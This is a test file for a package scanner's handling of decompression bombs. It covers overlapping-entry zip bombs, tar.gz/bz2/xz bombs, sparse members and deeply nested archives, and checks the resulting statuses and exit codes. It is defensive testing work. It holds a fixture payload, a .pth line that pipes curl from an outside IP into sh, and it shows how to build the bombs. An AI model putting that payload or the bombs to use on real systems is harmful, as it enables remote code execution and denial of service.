/**
 * Decompression bombs through the real pipeline (scanArtifact with the default options): every scan must end within
 * its time budget with bounded memory, with the right status, a reason that names the problem, archive findings
 * where the packing is itself evidence, and the documented exit code (0 clean, 1 flagged or not fully scanned).
 *
 * The bombs are built from repeated deflate blocks (archive-builders.ts): gigabytes of output for megabytes of input.
 */
import { execFileSync } from 'node:child_process';
import zlib from 'node:zlib';
import { buildTar, buildWheel, buildZip, gzip, tarHeader } from '../helpers/archive.js';
import {
  GiB,
  MiB,
  crc32Combine,
  crcZeros,
  deflateZeros,
  findingsOf,
  gzipWrap,
  quotedOverlapBomb,
  rawEntry,
  rawZip,
  rulesOf,
  scanMeasured,
  type RawEntry,
} from './archive-builders.js';

const EVIL = 'import os; os.system("curl -s http://203.0.113.9/x | sh")\n';

/** A zip member of `n` zeros (deflated), declaring `declared` bytes (default: the truth). */
function zeroMember(name: string, n: number, declared = n): RawEntry {
  return { name: Buffer.from(name), comp: deflateZeros(n), method: 8, crc: crcZeros(n), size: n, flags: 0x800, central: { size: declared } };
}

describe('zip bombs', () => {
  test('a high-ratio member within the limits is read, and its ratio is reported', async () => {
    const w = buildWheel('z', '1', { 'z/__init__.py': 'x = 1\n', 'z/zeros.bin': Buffer.alloc(40 * MiB) });
    const m = await scanMeasured('z-1-py3-none-any.whl', w);
    expect(m.report.status).toBe('scanned');
    const bomb = findingsOf(m.report, 'archive.bomb');
    expect(bomb.map((f) => f.path)).toEqual(['z/zeros.bin']);
    expect(bomb[0].message).toMatch(/compression ratio \d+:1 \(limit 200:1\)/);
    expect(m.report.stats.bytes).toBeGreaterThanOrEqual(40 * MiB); // read in full: it is within the limits
    expect(m.report.flagged).toBe(false);
    expect(m.exit).toBe(0);
  });

  test('a member declaring 3 GiB (over the per-member limit) is not inflated; the members after it still are', async () => {
    const z = rawZip([zeroMember('p/huge.bin', 3 * GiB), rawEntry('p/evil.pth', EVIL)]);
    expect(z.length).toBeLessThan(4 * MiB);
    const m = await scanMeasured('p-1.0.zip', z);
    expect(m.report.status).toBe('incomplete');
    expect(m.report.reasons.join('\n')).toMatch(/p\/huge\.bin: .*3221225472 bytes/);
    expect(findingsOf(m.report, 'archive.bomb').map((f) => f.path)).toContain('p/huge.bin');
    expect(m.report.findings.some((f) => f.path === 'p/evil.pth' && f.rule.startsWith('code.'))).toBe(true);
    expect(m.exit).toBe(1);
  });

  test('a member declaring 1 KiB that inflates to 3 GiB: stopped soon after its declared size', async () => {
    const z = rawZip([zeroMember('p/small.txt', 3 * GiB, 1024), rawEntry('p/after.txt', 'still read\n')]);
    const m = await scanMeasured('p-1.0.zip', z);
    expect(m.report.status).toBe('incomplete');
    expect(m.report.reasons.join('\n')).toMatch(/p\/small\.txt: .*declares 1024 bytes/);
    expect(findingsOf(m.report, 'archive.bomb').map((f) => f.path)).toContain('p/small.txt');
    expect(m.report.stats.files).toBe(1); // p/after.txt
    expect(m.exit).toBe(1);
  });

  test('overlapping entries with quoted local headers (the non-recursive zip bomb): 300 x 32 MiB from one kernel', async () => {
    const z = quotedOverlapBomb(300, 32 * MiB);
    expect(z.length).toBeLessThan(256 * 1024);
    const m = await scanMeasured('bomb-1.0.zip', z);
    const bomb = findingsOf(m.report, 'archive.bomb');
    expect(bomb.some((f) => /overlap/.test(f.message))).toBe(true);
    expect(m.report.status).toBe('incomplete');
    expect(m.report.reasons.join('\n')).toMatch(/overlap/);
    // far less than the 9.4 GiB the entries claim was read
    expect(m.report.stats.bytes).toBeLessThan(1 * GiB);
    expect(m.exit).toBe(1);
  });

  test('a thousand central entries pointing at one local entry', async () => {
    const kernel = zeroMember('k/kernel.bin', 16 * MiB);
    const z = Buffer.from(rawZip([kernel, ...Array.from({ length: 999 }, (_, i) => ({ ...kernel, name: Buffer.from(`k/copy${i}.bin`) }))]));
    // every central entry after the first points at the first local header
    let p = z.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    for (; p >= 0; p = z.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), p + 4)) z.writeUInt32LE(0, p + 42);
    const m = await scanMeasured('k-1.0.zip', z);
    expect(findingsOf(m.report, 'archive.bomb').some((f) => /overlap/.test(f.message))).toBe(true);
    expect(rulesOf(m.report)).toContain('archive.header-mismatch'); // the local header names another file
    expect(m.report.status).toBe('incomplete');
    expect(m.report.stats.bytes).toBeLessThan(1 * GiB);
    expect(m.exit).toBe(1);
  });

  test('overlapping entries that say "stored" to the directory and "deflate" to the local header: the second reading is bounded too', async () => {
    const kernel = zeroMember('s/kernel.bin', 16 * MiB);
    const stored = { method: 0, size: kernel.comp.length, compSize: kernel.comp.length, offset: 0 };
    const z = rawZip([{ ...kernel, central: stored }, ...Array.from({ length: 300 }, (_, i) => ({ ...kernel, name: Buffer.from(`s/copy${i}.bin`), central: stored }))]);
    const m = await scanMeasured('s-1.0.zip', z);
    expect(findingsOf(m.report, 'archive.header-mismatch').some((f) => /compression method 8 in the local header, 0 in the central directory/.test(f.message))).toBe(true);
    expect(m.report.status).toBe('incomplete');
    expect(m.report.reasons.join('\n')).toMatch(/overlap limit/);
    expect(m.report.stats.bytes).toBeLessThan(1 * GiB);
    expect(m.exit).toBe(1);
  });
});

describe('tar bombs', () => {
  test('a tar.gz holding a 3 GiB zero-filled member (3 MiB compressed) is stopped at the limit, not inflated', async () => {
    const n = 3 * GiB + 16 * MiB; // the member, then zero blocks that end the archive
    const head = tarHeader('p-1.0/zeros.bin', 3 * GiB, '0');
    const deflated = Buffer.concat([zlib.deflateRawSync(head, { finishFlush: zlib.constants.Z_FULL_FLUSH }), deflateZeros(n)]);
    const gz = gzipWrap(deflated, crc32Combine(zlib.crc32(head) >>> 0, crcZeros(n), n), head.length + n);
    expect(gz.length).toBeLessThan(4 * MiB);
    // the limit (2 GiB) is only known to be passed once 2 GiB have been inflated (and dropped): a second or two on an
    // idle machine, more on a loaded one
    const m = await scanMeasured('p-1.0.tar.gz', gz, { budgetSeconds: 45 });
    expect(m.report.status).toBe('incomplete');
    expect(m.report.reasons.join('\n')).toMatch(/gzip data inflates past \d+ bytes/);
    expect(rulesOf(m.report)).toContain('archive.bomb');
    expect(m.exit).toBe(1);
  });

  test('a tar.bz2 of 40 concatenated streams of 64 MiB of zeros (2.5 GiB from 3 KiB): stopped after 64 MiB', async () => {
    const head = tarHeader('b-1.0/zeros.bin', 40 * 64 * MiB, '0');
    const script = 'import bz2,sys\nh=sys.stdin.buffer.read()\nz=bz2.compress(bytes(64<<20),9)\nsys.stdout.buffer.write(bz2.compress(h)+z*40)';
    const bz = new Uint8Array(execFileSync('python3', ['-c', script], { input: head }));
    expect(bz.length).toBeLessThan(8 * 1024);
    const m = await scanMeasured('b-1.0.tar.bz2', bz);
    expect(m.report.status).toBe('incomplete');
    expect(m.report.reasons.join('\n')).toMatch(/bzip2 data inflates past 67108864 bytes, more than 1000 times its \d+ bytes/);
    expect(rulesOf(m.report)).toContain('archive.bomb');
    expect(m.exit).toBe(1);
  });

  test('a tar.xz of 256 MiB of zeros (from about 40 KiB): stopped at 64 MiB, not inflated to the size limit', async () => {
    const head = tarHeader('x-1.0/zeros.bin', 256 * MiB, '0');
    const script = 'import lzma,sys\nh=sys.stdin.buffer.read()\nc=lzma.LZMACompressor(format=lzma.FORMAT_XZ)\nout=c.compress(h)\nz=bytes(16<<20)\nfor _ in range(16): out+=c.compress(z)\nsys.stdout.buffer.write(out+c.flush())';
    const xz = new Uint8Array(execFileSync('python3', ['-c', script], { input: head, maxBuffer: 1 << 24 }));
    expect(xz.length).toBeLessThan(64 * 1024);
    const m = await scanMeasured('x-1.0.tar.xz', xz);
    expect(m.report.status).toBe('incomplete');
    expect(m.report.reasons.join('\n')).toMatch(/xz\/lzma data inflates past 67108864 bytes, more than 1000 times its \d+ bytes \(decompression bomb\)/);
    expect(rulesOf(m.report)).toContain('archive.bomb');
    expect(m.exit).toBe(1);
  });

  test('a sparse member claiming 1 TiB: only its stored data is read (and scanned)', async () => {
    const rec = (k: string, v: string) => {
      const body = ` ${k}=${v}\n`;
      let len = body.length + 2;
      while (String(len).length + body.length !== len) len = String(len).length + body.length;
      return `${len}${body}`;
    };
    const pax = Buffer.from(rec('GNU.sparse.size', String(1024 * GiB)) + rec('GNU.sparse.map', `0,${EVIL.length}`) + rec('GNU.sparse.name', 's-1.0/evil.pth'));
    const pad = (b: Buffer) => Buffer.concat([b, Buffer.alloc((512 - (b.length % 512)) % 512)]);
    const t = Buffer.concat([
      tarHeader('s-1.0/PaxHeader', pax.length, 'x'),
      pad(pax),
      tarHeader('s-1.0/GNUSparseFile.0/evil.pth', EVIL.length, '0'),
      pad(Buffer.from(EVIL)),
      Buffer.alloc(1024),
    ]);
    const m = await scanMeasured('s-1.0.tar.gz', gzip(t));
    expect(findingsOf(m.report, 'archive.corrupt').some((f) => /sparse/.test(f.message))).toBe(true);
    expect(m.report.findings.some((f) => f.path === 's-1.0/evil.pth' && f.rule === 'code.pth-exec')).toBe(true);
    // Python's reading and node-tar's (which names it by its header, GNUSparseFile.0/...) are both scanned: the
    // stored bytes twice at most, never the terabyte of holes
    expect(m.report.stats.bytes).toBeLessThanOrEqual(2 * EVIL.length);
    expect(m.report.flagged).toBe(true);
    expect(m.exit).toBe(1);
  });
});

describe('nested-archive bombs', () => {
  test('zip in tar.gz in zip ... ten levels deep: opened to the depth limit, the rest reported', async () => {
    let inner: Uint8Array = buildZip([{ name: 'core/evil.pth', data: EVIL }]);
    for (let i = 0; i < 10; i++) {
      inner = i % 2 ? buildZip([{ name: `level${i}.zip`, data: inner }]) : gzip(buildTar([{ name: `level${i}.tar.gz`, data: inner }]));
    }
    const m = await scanMeasured('deep-1-py3-none-any.whl', buildWheel('deep', '1', { 'deep/nest.tar.gz': inner }));
    const depth = findingsOf(m.report, 'archive.nesting-too-deep');
    expect(depth).toHaveLength(1);
    expect(depth[0].path.split('!/')).toHaveLength(4); // opened at depths 1, 2 and 3
    expect(m.report.status).toBe('incomplete');
    expect(m.report.reasons.join('\n')).toMatch(/nested archive not opened \(depth limit 3\)/);
    expect(m.exit).toBe(1);
  });

  test('10 archives of 10 archives, five levels (42.zip-like, 100 GiB of zeros): opened to the depth limit, bounded', async () => {
    let level: Uint8Array = buildZip(Array.from({ length: 10 }, (_, i) => ({ name: `zeros${i}.bin`, data: Buffer.alloc(1024 * 1024) })));
    for (let l = 1; l < 5; l++) {
      const inner = level;
      level = buildZip(Array.from({ length: 10 }, (_, i) => ({ name: `l${l}-${i}.zip`, data: inner })));
    }
    expect(level.length).toBeLessThan(2 * MiB);
    const m = await scanMeasured('wide-1.0.zip', level);
    // members at depth 0, 1, 2 and 3 are read; the 10 000 zips at depth 3 are not opened, so no zeros are inflated
    expect(m.report.stats.files).toBe(10 + 100 + 1000 + 10_000);
    expect(m.report.stats.bytes).toBeLessThan(256 * MiB);
    expect(m.report.status).toBe('incomplete');
    expect(m.report.omittedFindings?.['archive.nesting-too-deep']).toBeGreaterThan(0);
    expect(m.exit).toBe(1);
  });
});
